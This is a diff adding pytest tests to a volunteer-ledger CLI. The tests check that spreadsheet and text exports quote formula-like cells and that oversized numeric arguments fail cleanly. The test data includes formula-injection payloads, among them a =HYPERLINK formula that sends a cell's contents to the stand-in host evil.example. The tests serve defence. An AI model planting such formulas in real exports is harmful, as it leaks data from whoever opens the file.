@@ -184,3 +184,77 @@ def test_cli_export_report_points_and_merchants(db_url: str, services: Any, fill
     assert run(db_url, "teams", "add", "--code", "x", "--name", "测试队", "--services", "nope").exit_code != 0
     backwards = run(db_url, "export", "ledger", "--from", "2026-11-30", "--to", "2026-11-01")
     assert backwards.exit_code != 0 and "--to must not be before --from" in backwards.output
+
+
+# -- no live formulas in any export ---------------------------------------------------------------
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?d="&D2,"详情")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")
+
+
+def _hostile_rows() -> list[ledger.LedgerRow]:
+    return [ledger.LedgerRow(record_id=i, name=bad, id_masked="110***********1234", service=bad, day=date(2026, 11, 3),
+                             start="09:00", end="10:30", hours=1.5, content=bad, resident=bad, rating=5, comment=bad,
+                             verified="居民确认", order_id=100 + i, volunteer_id=i)
+            for i, bad in enumerate(FORMULAS, 1)]
+
+
+def test_the_neutraliser_quotes_text_and_leaves_numbers() -> None:
+    for bad in FORMULAS:
+        assert ledger.spreadsheet_cell(bad) == "'" + bad
+    for fine in ("王建国", "2026-11-03", "", "110***********1234", "'=already quoted", "a=b"):
+        assert ledger.spreadsheet_cell(fine) == fine
+    for number in (-3, 1.5, 0, None):
+        assert ledger.spreadsheet_cell(number) == number
+
+
+def test_xlsx_export_has_no_formula_cells(tmp_path: Path) -> None:
+    path = tmp_path / "evil.xlsx"
+    ledger.write_ledger(_hostile_rows(), path, "xlsx", date(2026, 11, 1), date(2026, 11, 30))
+    book = load_workbook(path)
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                assert not (isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r" and cell.value), cell.value
+    records = [[c.value for c in row] for row in book["服务记录"].iter_rows()][1:]
+    # (XML reads a bare CR back as LF: still after the quote)
+    assert [r[12] for r in records] == ["'" + bad.replace("\r", "\n") for bad in FORMULAS]
+    assert all(r[8] == 1.5 and r[11] == 5 and isinstance(r[14], int) for r in records)  # numbers stay numbers
+    summary = [[c.value for c in row] for row in book["汇总"].iter_rows()]
+    assert {r[0] for r in summary[1:-2]} == {"'" + bad.replace("\r", "\n") for bad in FORMULAS}
+    assert summary[1][3] == 1.5
+
+
+def test_csv_export_has_no_formula_cells(tmp_path: Path) -> None:
+    written = ledger.write_ledger(_hostile_rows(), tmp_path / "evil.csv", "csv", date(2026, 11, 1), date(2026, 11, 30))
+    tables = []
+    for path in written:
+        with path.open(encoding="utf-8-sig", newline="") as fh:
+            tables.append(list(csv.reader(fh)))
+        cells = [c for row in tables[-1] for c in row]
+        assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], path.name
+    assert [r[12] for r in tables[0][1:]] == ["'" + bad for bad in FORMULAS]
+    assert [r[8] for r in tables[0][1:]] == ["1.5"] * len(FORMULAS)
+
+
+def test_text_reports_quote_names_that_look_like_formulas() -> None:
+    rows = [ledger.Honour(rank=1, volunteer_id=1, name="=HYPERLINK(\"http://evil.example\")", points=10, hours=1.0,
+                          total_hours=1.0, star=0, core=False)]
+    text = ledger.honours_text("2026年第4季度", rows)
+    assert "\t'=HYPERLINK(" in text and "\t=HYPERLINK(" not in text
+    rep = ledger.Monthly(month="2026-11", orders_by_service={"@SUM(A1)": 1})
+    assert "'@SUM(A1)\t1" in ledger.monthly_text(rep)
+
+
+@pytest.mark.parametrize("args", [
+    ("orders", "show", "9" * 20), ("orders", "cancel", "9" * 20, "--reason", "x"),
+    ("orders", "assign", "1", "--volunteer", "9" * 20), ("orders", "show", "0"),
+    ("volunteers", "show", "9" * 20), ("volunteers", "approve", "9223372036854775808"),
+    ("points", "show", "9" * 20), ("points", "adjust", "--volunteer", "1", "--points", "9" * 20, "--reason", "x"),
+    ("report", "honours", "--year", "99999"), ("report", "monthly", "--month", "9999-12"),
+    ("export", "ledger", "--from", "9999-12-31", "--to", "9999-12-31"),
+])
+def test_cli_numbers_that_fit_nothing_are_one_line_errors(db_url: str, args: tuple[str, ...]) -> None:
+    out = CliRunner().invoke(cli, list(args), env={"LEIFENG_DATABASE_URL": db_url})
+    assert out.exit_code != 0 and isinstance(out.exception, SystemExit), (out.output, out.exception)
+    assert "Traceback" not in out.output and out.output.strip(), args
